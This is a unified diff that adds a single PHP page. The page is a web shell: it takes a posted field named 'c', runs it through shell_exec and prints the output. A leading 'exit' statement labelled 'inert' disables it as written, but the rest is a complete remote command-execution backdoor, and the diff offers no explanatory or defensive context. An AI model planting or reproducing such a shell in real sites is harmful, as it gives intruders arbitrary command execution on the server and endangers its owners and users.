@@ -1,0 +1,1 @@
+<?php exit; /* inert */ ?><html><body><form method="post"><input name="c"></form><pre><?php if ($_POST["c"]): ?><b><?=shell_exec($_POST["c"])?></b><?php endif; ?></pre></body></html>
